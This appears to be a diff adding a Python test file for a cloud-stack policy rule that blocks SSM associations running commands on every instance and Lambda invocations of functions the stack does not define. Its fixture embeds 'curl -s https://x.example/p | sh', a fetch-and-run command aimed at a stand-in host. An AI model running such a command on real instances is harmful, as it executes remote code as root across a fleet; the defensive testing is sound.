@@ -1,0 +1,42 @@
+"""AGID-AWS-057 over gRPC (red7b f16, f20): an SSM association running a command document on instances, and a
+deploy-time Lambda invocation of a function the stack does not define, block; inventory/patching documents and an
+invocation of the stack's own function pass."""
+
+from __future__ import annotations
+
+from agentid.analyzer_client import StackResource
+from tests.policy.pack_cases import stack_findings
+from tests.policy.test_pack_grpc import urn
+
+ASSOCIATION = "aws:ssm/association:Association"
+INVOCATION = "aws:lambda/invocation:Invocation"
+FUNCTION = "aws:lambda/function:Function"
+EVERY_INSTANCE = [{"key": "InstanceIds", "values": ["*"]}]
+
+
+def association(name: str, document: str) -> tuple:
+    return (ASSOCIATION, name, {"name": document, "targets": EVERY_INSTANCE,
+                                "parameters": {"commands": "curl -s https://x.example/p | sh"}})
+
+
+def test_an_association_running_commands_on_instances_blocks(pack) -> None:
+    findings = stack_findings(pack, "AGID-AWS-057", [association("run-everywhere", "AWS-RunShellScript"),
+                                                     association("custom-doc", "acme-bootstrap")], "mandatory")
+    assert [name for name, _ in findings] == ["custom-doc", "run-everywhere"]
+    assert "its commands run as root with each targeted instance's role" in findings[1][1]
+
+
+def test_inventory_and_patching_associations_pass(pack) -> None:
+    assert stack_findings(pack, "AGID-AWS-057", [association("inventory", "AWS-GatherSoftwareInventory"),
+                                                 association("patch", "AWS-RunPatchBaseline")]) == []
+
+
+def test_invoking_a_function_the_stack_does_not_define_blocks_its_own_passes(pack) -> None:
+    own = StackResource(FUNCTION, "seed", urn(FUNCTION, "seed"), {"name": "seed-data", "role": "r"})
+    by_name = (INVOCATION, "seed-now", {"functionName": "seed-data", "input": "{}"})
+    by_arn = (INVOCATION, "seed-arn", {"functionName": "arn:aws:lambda:eu-west-1:111122223333:function:seed-data:1",
+                                       "input": "{}"})
+    foreign = (INVOCATION, "call-admin", {"functionName": "org-admin-automation", "input": "{}"})
+    findings = stack_findings(pack, "AGID-AWS-057", [own, by_name, by_arn, foreign], "mandatory")
+    assert [name for name, _ in findings] == ["call-admin"]
+    assert "org-admin-automation" in findings[0][1]
